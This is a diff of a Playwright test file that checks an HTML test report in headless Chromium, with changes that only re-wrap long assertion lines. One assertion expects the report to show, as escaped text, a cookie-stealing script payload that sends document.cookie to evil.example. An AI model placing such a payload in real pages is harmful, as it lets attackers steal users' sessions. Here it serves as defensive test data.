@@ -71,7 +71,9 @@ describe('report.html in headless Chromium', () => {
       expect(await count('observations')).toBe(report.observations.length);
       expect(await page.locator('#seed').textContent()).toBe(String(report.seed));
       expect(await page.locator('.result').count()).toBe(report.results.length);
-      expect(await page.locator('#shown').textContent()).toBe(`showing ${report.results.length} of ${report.results.length}`);
+      expect(await page.locator('#shown').textContent()).toBe(
+        `showing ${report.results.length} of ${report.results.length}`,
+      );
       expect(await page.locator('script').count()).toBe(1);
       expect(await page.locator('img').count()).toBe(0);
       await page.screenshot({ path: join(SHOTS, 'report-failing-top.png') });
@@ -81,8 +83,12 @@ describe('report.html in headless Chromium', () => {
       await shape.locator('summary').click();
       await expect.poll(() => shape.getAttribute('open')).not.toBeNull();
       const response = shape.locator('.exchange pre').nth(1);
-      expect(await response.textContent()).toContain("<script>fetch('https://evil.example/steal?c='+document.cookie)</script>");
-      expect(await shape.locator('.exchange pre').first().textContent()).toContain('PATCH http://127.0.0.1:43117/campaign/cmp_7');
+      expect(await response.textContent()).toContain(
+        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
+      );
+      expect(await shape.locator('.exchange pre').first().textContent()).toContain(
+        'PATCH http://127.0.0.1:43117/campaign/cmp_7',
+      );
       const f = report.results.find((r) => r.id === 'validation.error-body-shape')!;
       expect(await shape.locator('.copyline pre').first().textContent()).toBe(f.failures![0]!.repro);
       await shape.locator('button.copy').first().click();
@@ -111,7 +117,9 @@ describe('report.html in headless Chromium', () => {
       for (const v of ['skipped', 'error'] as const) await page.uncheck(`input[name=status][value=${v}]`);
       expect(await visibleResults(page)).toBe(report.summary.failed);
       await page.fill('#filter-text', 'GET /calls');
-      expect(await visibleResults(page)).toBe(report.results.filter((r) => r.status === 'failed' && r.operation === 'GET /calls').length);
+      expect(await visibleResults(page)).toBe(
+        report.results.filter((r) => r.status === 'failed' && r.operation === 'GET /calls').length,
+      );
       await page.fill('#filter-text', 'no such check');
       expect(await visibleResults(page)).toBe(0);
       expect(await page.locator('#no-match').isVisible()).toBe(true);
